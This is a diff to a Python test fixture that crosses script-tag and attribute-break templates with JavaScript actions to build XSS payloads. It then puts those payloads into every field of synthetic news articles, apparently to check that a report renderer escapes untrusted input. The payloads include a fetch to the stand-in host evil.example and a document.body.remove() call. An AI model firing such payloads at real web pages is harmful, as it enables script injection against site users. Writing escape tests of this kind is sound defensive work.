@@ -7,6 +7,11 @@ from __future__ import annotations
 
 from itertools import product
 
+from report_cases import COAST, HARBOUR
+
+TOGETHER = 30
+"""Payloads in one comparison, each an outlet of its own."""
+
 DEEDS = ("alert(1)", "fetch('https://evil.example')", "document.body.remove()")
 TAGS = (
     "<script>{}</script>",
@@ -72,3 +77,26 @@ BREAKS = (
 )  # fmt: skip
 
 PAYLOADS = tuple(form.format(deed) for form, deed in product((*TAGS, *BREAKS), DEEDS))
+GROUPS = [PAYLOADS[first : first + TOGETHER] for first in range(0, len(PAYLOADS), TOGETHER)]
+
+
+def articles_with(payloads: tuple[str, ...], event: str) -> list[dict[str, object]]:
+    """An article for each payload, which stands in every field of it."""
+    return [
+        {
+            "id": f"{payload} {number}",
+            "outlet": f"{payload}{number}",
+            "title": f"{payload} closes the port",
+            "text": f"{HARBOUR if number % 2 else COAST} {payload} “It is {payload} for us all,” said "
+            f"{payload} Lee. The {payload} report says the harbour may close. {payload}",
+            "author": payload,
+            "url": payload,
+            "event": event,
+            "genre": payload,
+            "published": f"2026-05-{number % 28 + 1:02}",
+            "language": payload,
+            payload: payload,
+            f"{payload} column": [payload],
+        }
+        for number, payload in enumerate(payloads)
+    ]
